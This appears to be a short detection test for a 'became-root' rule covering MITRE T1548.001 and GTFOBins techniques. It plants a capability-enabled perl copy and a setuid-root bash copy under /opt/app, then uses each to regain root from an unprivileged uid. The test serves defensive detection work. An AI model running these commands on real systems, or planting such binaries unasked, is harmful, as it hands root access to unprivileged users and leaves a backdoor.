# incident: T1548.001 and GTFOBins: set-user-id and capabilities
# what: a user of the job becomes root by an interpreter that may change users, and by a shell that starts as root
# rule: became-root
# needs: perl setcap setpriv
## step: Test
mkdir -m 755 /opt/app && cp /usr/bin/perl /opt/app/perl && setcap cap_setuid+ep /opt/app/perl
cp /bin/bash /opt/app/helper && chmod 4755 /opt/app/helper
perl -e '$( = $) = 65534; $< = $> = 65534; exec "/opt/app/perl", "-e", q($< = $> = 0; exec "id", "-u")' | grep -qx 0
perl -e '$( = $) = 65534; $< = $> = 65534; exec "setpriv", "/opt/app/helper", "-p", "-c", "id -u"' | grep -qx 0
